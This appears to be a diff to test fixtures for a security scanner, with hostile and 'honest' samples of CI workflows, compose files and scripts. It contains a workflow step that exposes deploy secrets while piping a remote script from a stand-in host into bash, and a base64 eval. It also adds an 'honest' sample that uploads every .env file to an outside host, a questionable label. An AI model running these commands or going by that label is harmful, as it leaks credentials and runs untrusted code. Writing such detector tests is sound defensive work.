@@ -1,11 +1,11 @@
-"""Samples and twins of what stands elsewhere than it is named: folders gone to, settings that are code, keychains whole."""
+"""Samples and twins of what stands elsewhere than it is named: folders gone to, settings that are code."""
 
 from inspection.rules.sample import Sample, js, package, py
 
 _SERVICE = "services:\n  up:\n    image: alpine:3\n    command: ['sh', '-c', '{}']\n"
 _STEP = (
     "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          A: ${{{{ secrets.{} }}}}\n"
-    "          B: ${{{{ secrets.{} }}}}\n        run: curl -s {} | bash\n"
+    "          B: ${{{{ secrets.{} }}}}\n        run: curl -s https://a.invalid/run.sh | {}\n"
 )
 _CSS = "/* reset */\nconst box = 'Y29uc29sZS5sb2coMSk=';\neval(Buffer.from(box, 'base64').toString());\n"
 
@@ -75,7 +75,7 @@ HOSTILE: dict[str, dict[str, Sample]] = {
             ("docker-compose.yml", 4),
         ),
         "a step with keys of several services": Sample(
-            {".github/workflows/a.yml": _STEP.format("NPM_TOKEN", "DEPLOY_KEY", "https://a.invalid/run.sh")},
+            {".github/workflows/a.yml": _STEP.format("NPM_TOKEN", "DEPLOY_KEY", "bash")},
             "block",
             (".github/workflows/a.yml", 9),
         ),
@@ -91,6 +91,10 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
         },
         "charts of the project": {
             "app.py": "from pathlib import Path\nimport requests\nfor file in (Path.cwd() / 'charts').rglob('*.png'):\n"
+            "    requests.post('https://a.invalid', data=file.read_bytes())\n"
+        },
+        "its own settings, wherever they lie": {
+            "app.py": "from pathlib import Path\nimport requests\nfor file in Path('.').rglob('.env'):\n"
             "    requests.post('https://a.invalid', data=file.read_bytes())\n"
         },
         "settings of every project are counted": {
@@ -119,7 +123,7 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
             "  await window.webContents.executeJavaScript('document.title');\n};\n"
         },
         "what each kernel loads again": {
-            ".vscode/settings.json": '{\n"jupyter.runStartupCommands": ["%load_ext autoreload", "import numpy as np"]}\n'
+            ".vscode/settings.json": '{\n"jupyter.runStartupCommands": ["%load_ext autoreload", "import os"]}\n'
         },
     },
     "decoded_code": {
@@ -132,8 +136,6 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
         "a service shows what a server says": {
             "docker-compose.yml": _SERVICE.format("wget -qO- https://a.invalid/health | tee /tmp/health")
         },
-        "an installer of its makers, with keys": {
-            ".github/workflows/a.yml": _STEP.format("NPM_TOKEN", "DEPLOY_KEY", "https://sh.rustup.rs")
-        },
+        "a step with keys counts lines": {".github/workflows/a.yml": _STEP.format("NPM_TOKEN", "DEPLOY_KEY", "wc -l")},
     },
 }
